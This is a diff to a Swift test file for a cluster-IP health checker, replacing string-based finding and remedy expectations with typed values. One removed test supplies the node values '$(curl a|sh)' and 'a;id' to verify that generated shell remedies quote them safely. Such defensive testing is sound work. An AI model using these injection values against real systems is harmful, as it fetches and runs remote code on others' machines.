@@ -38,7 +38,7 @@ import Testing
         let found = try #require(
             ClusterSnapshot(configuration: Self.configuration(), nodes: nodes).worstFindings().first)
         #expect(found.code == "seed_mismatch" && found.node == "b")
-        #expect(found.evidence == "b has seed 7, most nodes have 42")
+        #expect(found.kind == .settings(.seed(7, most: 42)) && found.remedy == .reinstall(node: "b"))
     }
 
     @Test func `each lack of health is found`() {
@@ -46,21 +46,6 @@ import Testing
         #expect(
             Self.codes([Self.node("a", owned: [1, 2], health: health)])
                 == ["interface_down", "address_missing", "mac_missing", "arp_rewrite_missing"])
-    }
-
-    @Test func `a name that a node supplies is a word of a command, whatever it is`() throws {
-        var node = Self.node("a", owned: [1, 2], health: MulticastHealth(interfaceUp: false, macJoined: false))
-        node.sample?.configuration.interface = "$(curl a|sh)"
-        #expect(
-            Self.findings([node]).map(\.remedy) == [
-                "on a: ip link set '$(curl a|sh)' up", "on a: ip maddress add 01:00:5e:08:00:01 dev '$(curl a|sh)'",
-            ])
-        var bare = NodeStatus(name: "a", state: .live, lost: node.sample, isBare: true)
-        var snapshot = ClusterSnapshot(configuration: try #require(node.sample).configuration, nodes: [bare])
-        #expect(snapshot.worstFindings().contains { $0.remedy.contains(" --interface '$(curl a|sh)' ") })
-        bare.name = "a;id"
-        snapshot.nodes = [bare]
-        #expect(snapshot.worstFindings().contains { $0.remedy.hasSuffix(" --own 'a;id=1-2'") })
     }
 
     @Test func `a connection-tracking table that is full or nearly is found`() throws {
@@ -72,8 +57,8 @@ import Testing
         #expect(findings(899, of: 1000).isEmpty && findings(.max, of: 0).count == 1)
         let warned = try #require(findings(900, of: 1000).first)
         #expect(warned.code == "conntrack_full" && warned.severity == .warning && warned.node == "a")
-        #expect(warned.evidence == "a tracks 900 connections, 90 % of the 1000 it may")
-        #expect(warned.remedy == "on a: sysctl -w net.netfilter.nf_conntrack_max=2000")
+        #expect(warned.kind == .traffic(.conntrackFull(ConntrackTable(count: 900, limit: 1000))))
+        #expect(warned.remedy == .command(["sysctl", "-w", "net.netfilter.nf_conntrack_max=2000"], on: "a"))
         #expect(findings(1000, of: 1000).first?.severity == .critical)
     }
 
@@ -81,7 +66,8 @@ import Testing
         let found = Self.findings([Self.node("a", owned: [1]), Self.node("b", owned: [2], state: .unreachable)])
         #expect(found.map(\.code) == ["unserved"])
         #expect(found[0].node == "b" && found[0].buckets == [2])
-        #expect(found[0].remedy.hasPrefix("if it is dead: clusterip takeover b; if not: "))
+        let mending = Remedy.mendLink(node: "b", nil)
+        #expect(found[0].remedy == .ifDead(node: "b", .takeOver(node: "b"), otherwise: mending))
         #expect(
             Self.codes([Self.node("a", owned: [1, 2]), Self.node("b", owned: [2], state: .unreachable)])
                 == ["node_unreachable"])
@@ -90,32 +76,31 @@ import Testing
     @Test func `orphans beside a node that was never heard are its own, as far as one can know`() {
         let found = Self.findings([Self.node("a", owned: [1]), NodeStatus(name: "b", state: .unreachable)])
         #expect(found.map(\.code) == ["orphan", "node_unreachable"])
-        #expect(found[0].remedy == "if b is dead: clusterip takeover b")
-        #expect(found[1].effect == "not known: it was never heard, and no other node answers bucket 2")
+        #expect(found[0].remedy == .ifDead(node: "b", .takeOver(node: "b"), otherwise: nil))
+        #expect(found[1].kind == .silence(.unreachable(nil, wasHeard: false, orphans: [2])))
     }
 
     @Test func `orphans are no alarm yet while a node is being connected to`() {
         let found = Self.findings([Self.node("a", owned: [1]), NodeStatus(name: "b", state: .connecting)])
         #expect(found.map(\.code) == ["orphan"] && found[0].severity == .warning)
-        #expect(found[0].evidence == "no node that was heard answers bucket 2; b was never heard")
+        #expect(found[0].kind == .coverage(.orphan(unheard: ["b"], lost: nil)))
+        #expect(found[0].remedy == .awaitNodes(["b"]))
     }
 
-    @Test func `a node that carries the address without a table answers everybody`() {
+    @Test func `a node that carries the address without a table is found`() {
         var bare = NodeStatus(name: "b", state: .live, isBare: true)
         #expect(Self.codes([Self.node("a", owned: [1, 2]), bare]) == ["table_flushed"])
         bare.lost = Self.node("b", owned: [2]).sample
-        bare.foreignChange = RulesetChange(generation: 9, pid: 4711, process: "nft", user: "ops")
+        bare.foreignChange = .init(name: "nft", pid: 4711, user: "ops")
         let found = Self.findings([Self.node("a", owned: [1]), bare])
         #expect(found.map(\.code) == ["orphan", "table_flushed"])
-        #expect(
-            found[1].evidence
-                == "b carries 10.8.0.1 and lost its table; it answered bucket 2; changed by nft (process 4711, user ops) on b"
-        )
+        #expect(found[1].kind == .silence(.tableFlushed(IPv4Address(10, 8, 0, 1), hadTable: true)))
+        #expect(found[1].changes == [.init(node: "b", process: .init(name: "nft", pid: 4711, user: "ops"))])
         #expect(found[1].buckets == [2])
-        #expect(found.allSatisfy { $0.remedy == "clusterip reinstall b, then: clusterip repair" })
+        #expect(found.allSatisfy { $0.remedy == .inOrder([.reinstall(node: "b"), .repair]) })
     }
 
-    @Test func `when every table is gone, the command that makes them anew is told`() {
+    @Test func `when every table is gone, what makes them anew is told`() {
         let nodes = ["a", "b"].enumerated().map { index, name in
             var node = NodeStatus(name: name, state: .live, isBare: true)
             node.lost = Self.node(name, owned: [index + 1]).sample
@@ -123,18 +108,15 @@ import Testing
         }
         let found = Self.findings(nodes)
         #expect(found.map(\.code) == ["orphan", "table_flushed", "table_flushed"])
-        let command =
-            "clusterip install --address 10.8.0.1/16 --interface eth0 --mac 01:00:5e:08:00:01 --hashmode sourceip "
-            + "--total-nodes 2 --hash-init 42 --own a=1 --own b=2"
-        #expect(found.allSatisfy { $0.remedy == command }, "\(found[0].remedy)")
+        #expect(found.allSatisfy { $0.remedy == .install(Self.configuration(), owned: ["a": [1], "b": [2]]) })
     }
 
     @Test func `a conflict made by sets that contradict themselves has one remedy`() {
         var node = Self.node("a", owned: [1, 2])
-        node.sample?.alterations = ["The sets owned and draining both hold 2."]
+        node.sample?.alterations = [.ownedDraining([2])]
         let found = Self.findings([node, Self.node("b", owned: [2])])
         #expect(found.map(\.code) == ["conflict", "rules_altered"])
-        #expect(found.allSatisfy { $0.remedy == "clusterip reinstall a" })
+        #expect(found.allSatisfy { $0.remedy == .reinstall(node: "a") })
     }
 
     @Test func `what was adopted and never settled is not forgotten`() throws {
@@ -142,8 +124,7 @@ import Testing
         node.sample?.ownership.adopted = [2]
         let found = try #require(Self.findings([node]).first)
         #expect(found.code == "not_settled" && found.severity == .notice && found.buckets == [2])
-        #expect(found.evidence == "a adopted bucket 2 and still resets connections it does not know")
-        #expect(found.remedy == "clusterip settle a")
+        #expect(found.remedy == .settle(node: "a"))
     }
 
     @Test func `a node without table and address is harmless`() {
@@ -153,48 +134,39 @@ import Testing
 
     @Test func `a foreign change that did no harm is a notice, and harm names its author`() {
         var node = Self.node("b", owned: [2])
-        node.foreignChange = RulesetChange(generation: 9, pid: 4711, process: "nft")
+        let process = ProgramIdentity.Process(name: "nft", pid: 4711)
+        node.foreignChange = process
         let harmless = Self.findings([Self.node("a", owned: [1]), node])
         #expect(harmless.map(\.code) == ["foreign_change"] && harmless[0].severity == .notice)
-        #expect(harmless[0].evidence.hasPrefix("nft (process 4711, unknown user) changed"))
+        #expect(harmless[0].kind == .table(.foreignChange(process)) && harmless[0].remedy == .acceptChange)
         node.sample?.ownership = Ownership(owned: [1, 2])
         let harm = Self.findings([Self.node("a", owned: [1]), node])
         #expect(harm.map(\.code) == ["conflict"])
-        #expect(harm[0].evidence == "bucket 1 is answered by a and b; changed by nft (process 4711, unknown user) on b")
+        #expect(harm[0].changes == [.init(node: "b", process: process)])
     }
 
     @Test func `what is wrong with ARP is one finding`() {
         var node = Self.node("a", owned: [1, 2], health: MulticastHealth(arpRewritten: false))
-        node.sample?.alterations = ["The arp table x is missing: ARP does not say the cluster MAC."]
+        node.sample?.alterations = [.tableMissing(.arp)]
         let found = Self.findings([node])
         #expect(found.map(\.code) == ["arp_rewrite_missing"])
-        #expect(found[0].evidence.hasSuffix("The arp table x is missing: ARP does not say the cluster MAC."))
+        #expect(found[0].kind == .interface(.arpNotRewritten(Self.configuration().mac, .tableMissing(.arp))))
     }
 
-    @Test func `a node that answers no bucket hurts nobody by being deaf`() {
+    @Test func `a node that owns no bucket hurts nobody by being deaf`() {
         let found = Self.findings([
             Self.node("a", owned: [1, 2]), Self.node("b", owned: [], health: MulticastHealth(macJoined: false)),
         ])
         #expect(found.map(\.code) == ["one_node", "mac_missing"])
-        #expect(found[1].severity == .warning && found[1].effect == "none now, since it answers no bucket")
+        #expect(found[1].severity == .warning && found[1].buckets.isEmpty)
     }
 
-    @Test(arguments: [
-        ("the agent ended (exit status 255): Host key verification failed.", "compare its host key"),
-        ("the agent ended (exit status 255): ops@b: Permission denied (publickey,password).", "ssh-copy-id"),
-        ("ssh: connect to host b port 22: Connection refused", "start sshd on b"),
-        ("ssh: Could not resolve hostname b: Name or service not known", "correct the host name of b"),
-        ("the agent ended (exit status 1): sudo: a password is required", "NOPASSWD"),
-        ("the agent ended (exit status 127): bash: line 1: clusterip-agent: command not found", "copy clusterip-agent"),
-        ("its agent speaks protocol 9, this program 1", "the same version"),
-        ("nothing heard for 3 s: the agent or its link hangs", "overloaded or stopped"),
-        ("something else", "look at b and the link to it"),
-    ])
-    func `why a node is silent decides what to do`(_ reason: String, _ remedy: String) {
-        var node = Self.node("b", owned: [], state: .unreachable)
-        node.reason = reason
+    @Test func `why a node is silent is kept, and so is what mends it`() {
+        let failure = LinkFailure.silent(seconds: 3)
+        let node = NodeStatus(name: "b", state: .unreachable, failure: failure)
         let found = Self.findings([Self.node("a", owned: [1, 2]), node])
-        #expect(found.map(\.code) == ["node_unreachable"] && found[0].remedy.contains(remedy), "\(found)")
+        #expect(found.map(\.kind) == [.silence(.unreachable(failure, wasHeard: false, orphans: []))])
+        #expect(found.map(\.remedy) == [.mendLink(node: "b", failure)])
     }
 
     @Test func `an interface that came back empty was made anew`() {
@@ -206,10 +178,11 @@ import Testing
 
     @Test func `altered rules are shown with what the driver saw`() {
         var node = Self.node("a", owned: [1, 2])
-        node.sample?.alterations = ["The rule \"drop\" of the chain in is missing."]
+        let alteration = Alteration.ruleMissing(.init(.ip, "in"), rule: "drop")
+        node.sample?.alterations = [alteration]
         let found = Self.findings([node])
         #expect(found.map(\.code) == ["rules_altered"])
-        #expect(found[0].evidence == "a: The rule \"drop\" of the chain in is missing.")
+        #expect(found[0].kind == .table(.altered([alteration])))
     }
 
     @Test func `a node that receives nothing while its peers do is behind a switch that does not flood`() {
@@ -220,8 +193,9 @@ import Testing
         }
         let found = Self.findings([node("a", [1], 150, 151), node("b", [2], 0, 0)])
         #expect(found.map(\.code) == ["not_receiving"] && found[0].severity == .critical)
-        #expect(
-            found.first?.evidence == "no packet for 10.8.0.1 reached b in 1.0 s, while 301 reached a in 1.0 s")
+        let (none, many) = (Arrivals(packets: 0, seconds: 1), Arrivals(packets: 301, seconds: 1))
+        let address = IPv4Address(10, 8, 0, 1)
+        #expect(found.first?.kind == .traffic(.notReceiving(address, none, peer: "a", peerArrivals: many)))
         let idle = Self.findings([node("a", [1, 2], 150, 151), node("b", [], 0, 0)])
         #expect(idle.map(\.severity) == [.warning, .warning])
         let unclear: [([Double], [Double])] = [
@@ -235,13 +209,13 @@ import Testing
         }
     }
 
-    @Test func `a node that answers none of its own packets is found, unless another drains them`() {
+    @Test func `a node that accepts none of its own packets is found, unless another drains them`() {
         var (a, b) = (Self.node("a", owned: [1]), Self.node("b", owned: [2]))
         a.rates = [BucketRates(arrived: Rate(packetsPerSecond: 100)), BucketRates()]
         a.arrivals = [50, 51].map { Arrivals(packets: $0, own: $0, seconds: 0.5) }
         let found = Self.findings([a, b])
         #expect(found.map(\.code) == ["not_accepting"] && found.first?.buckets == [1])
-        #expect(found.first?.evidence == "101 packets of a's own buckets reached it in 1.0 s, and it accepted none")
+        #expect(found.first?.kind == .traffic(.notAccepting(Arrivals(packets: 101, own: 101, seconds: 1))))
         b.sample?.ownership.set(1, to: .draining)
         #expect(Self.codes([a, b]).isEmpty)
         a.arrivals[1].accepted = 1
@@ -253,7 +227,7 @@ import Testing
         var nodes = [Self.node("a", owned: [1]), Self.node("b", owned: [2])]
         nodes[0].arrivals = [Arrivals(packets: 1, seconds: 0.5), Arrivals(packets: 2, seconds: 0.5)]
         let snapshot = ClusterSnapshot(configuration: Self.configuration(), nodes: nodes)
-        #expect(snapshot.unjudgedReception?.contains("no more than 3 reached any in 1.0 s") == true)
+        #expect(snapshot.unjudgedReception == UnjudgedReception(packets: 3, seconds: 1))
         nodes[0].arrivals = [Arrivals(packets: 10, seconds: 0.5), Arrivals(packets: 20, seconds: 0.5)]
         #expect(ClusterSnapshot(configuration: Self.configuration(), nodes: nodes).unjudgedReception == nil)
     }
@@ -267,7 +241,7 @@ import Testing
         let found = Self.findings([Self.node("a", owned: [1, 2]), Self.node("b", owned: [1, 2])])
         #expect(found.map(\.code) == ["conflict"])
         #expect(found.first?.buckets == [1, 2])
-        #expect(found.first?.evidence == "bucket 1-2 is answered by a and b")
+        #expect(found.first?.kind == .coverage(.conflict(owners: ["a", "b"])))
     }
 
     @Test func `a node whose samples are late is a warning`() {
